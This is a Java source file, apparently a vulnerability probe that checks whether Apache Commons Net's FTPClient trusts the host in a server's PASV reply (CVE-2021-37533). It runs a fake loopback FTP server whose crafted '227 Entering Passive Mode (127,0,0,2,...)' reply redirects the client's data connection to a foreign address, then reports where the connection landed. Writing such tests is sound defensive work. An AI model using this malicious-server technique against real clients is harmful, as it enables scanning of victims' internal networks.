import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.io.PrintWriter;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.ArrayBlockingQueue;
import java.util.concurrent.BlockingQueue;
import org.apache.commons.net.ftp.FTPClient;

/**
 * CVE-2021-37533: an FTP client that trusts the host in the server's PASV reply connects wherever
 * the server tells it to (port scanning and banner grabbing on the client's network). A tiny FTP
 * server on loopback answers PASV with a foreign host, 127.0.0.2, that listens on the same port as
 * the server's own address; the probe reports which address the client's data connection reached.
 * The fixed client ignores the host of the reply and uses the control connection's peer.
 */
public class Probe {
  static final InetAddress SERVER = InetAddress.getLoopbackAddress();
  static final InetAddress FOREIGN = address(127, 0, 0, 2);

  static Server server;
  static FTPClient held;

  static InetAddress address(int a, int b, int c, int d) {
    try {
      return InetAddress.getByAddress(new byte[] {(byte) a, (byte) b, (byte) c, (byte) d});
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  /**
   * Control connections each in a thread of their own; data listeners on SERVER and FOREIGN, same
   * port. Each accepted data connection is queued with the address it reached.
   */
  static final class Server {
    final ServerSocket control = new ServerSocket(0, 50, SERVER);
    final ServerSocket dataHere;
    final ServerSocket dataForeign;
    final BlockingQueue<Socket> data = new ArrayBlockingQueue<>(16);
    final BlockingQueue<String> reached = new ArrayBlockingQueue<>(16);

    Server() throws IOException {
      ServerSocket[] pair = samePort();
      dataForeign = pair[0];
      dataHere = pair[1];
      daemon(() -> serveControl());
      daemon(() -> acceptData(dataHere));
      daemon(() -> acceptData(dataForeign));
    }

    /** Two listeners on one port: FOREIGN first (port chosen by the OS), then SERVER. */
    static ServerSocket[] samePort() throws IOException {
      for (int attempt = 0; ; attempt++) {
        ServerSocket foreign = new ServerSocket(0, 50, FOREIGN);
        try {
          ServerSocket here = new ServerSocket();
          here.bind(new InetSocketAddress(SERVER, foreign.getLocalPort()), 50);
          return new ServerSocket[] {foreign, here};
        } catch (IOException taken) {
          foreign.close();
          if (attempt == 100) {
            throw taken;
          }
        }
      }
    }

    static void daemon(Runnable r) {
      Thread t = new Thread(r);
      t.setDaemon(true);
      t.start();
    }

    void acceptData(ServerSocket listener) {
      for (; ; ) {
        try {
          Socket s = listener.accept();
          data.put(s);
        } catch (IOException | InterruptedException e) {
          return;
        }
      }
    }

    void serveControl() {
      for (; ; ) {
        Socket s;
        try {
          s = control.accept();
        } catch (IOException e) {
          return;
        }
        daemon(
            () -> {
              try (s) {
                converse(s);
              } catch (IOException | InterruptedException e) {
                // the client went away
              }
            });
      }
    }

    void converse(Socket s) throws IOException, InterruptedException {
      BufferedReader in =
          new BufferedReader(new InputStreamReader(s.getInputStream(), StandardCharsets.US_ASCII));
      PrintWriter out =
          new PrintWriter(
              new java.io.OutputStreamWriter(s.getOutputStream(), StandardCharsets.US_ASCII), true);
      reply(out, "220 probe FTP server");
      for (String line; (line = in.readLine()) != null; ) {
        String command = line.split(" ")[0].toUpperCase();
        switch (command) {
          case "USER" -> reply(out, "331 password please");
          case "PASS" -> reply(out, "230 logged in");
          case "PASV" -> {
            int port = dataHere.getLocalPort();
            reply(
                out,
                "227 Entering Passive Mode (127,0,0,2," + (port >> 8) + "," + (port & 255) + ")");
          }
          case "RETR" -> {
            // The client connects before it sends RETR: its data connection is (or will be) queued.
            Socket d = data.take();
            InetAddress at = d.getLocalAddress();
            reached.put(at.getHostAddress());
            reply(out, "150 sending");
            if (at.equals(SERVER)) {
              try (OutputStream o = d.getOutputStream()) {
                o.write("hello".getBytes(StandardCharsets.US_ASCII));
              }
              reply(out, "226 done");
            } else {
              // The foreign host is no FTP server: it hangs up, and the control connection says
              // nothing more (a client that refuses the data connection reads no further reply).
              d.close();
            }
          }
          case "QUIT" -> {
            reply(out, "221 bye");
            return;
          }
          default -> reply(out, "200 ok");
        }
      }
    }

    static void reply(PrintWriter out, String line) {
      out.print(line + "\r\n");
      out.flush();
    }
  }

  static FTPClient connected() throws IOException {
    FTPClient client = new FTPClient();
    client.connect(SERVER, server.control.getLocalPort());
    client.login("probe", "probe");
    client.enterLocalPassiveMode();
    return client;
  }

  /** One passive download; returns the address its data connection reached. */
  static String download(FTPClient client) throws InterruptedException {
    try {
      client.retrieveFile("greeting.txt", new ByteArrayOutputStream());
    } catch (IOException refused) {
      // the vulnerable client refuses the foreign data connection only after making it
    }
    return server.reached.take();
  }

  static String probe() throws Exception {
    String fromHeld = download(held);
    FTPClient fresh = connected();
    try {
      return "held=" + fromHeld + " fresh=" + download(fresh);
    } finally {
      fresh.logout();
      fresh.disconnect();
    }
  }

  public static void main(String[] args) throws Exception {
    server = new Server();
    held = connected();
    download(held);
    System.out.println("ready");
    BufferedReader in = new BufferedReader(new InputStreamReader(System.in));
    for (String line; (line = in.readLine()) != null; ) {
      System.out.println("RESULT " + probe());
    }
  }
}
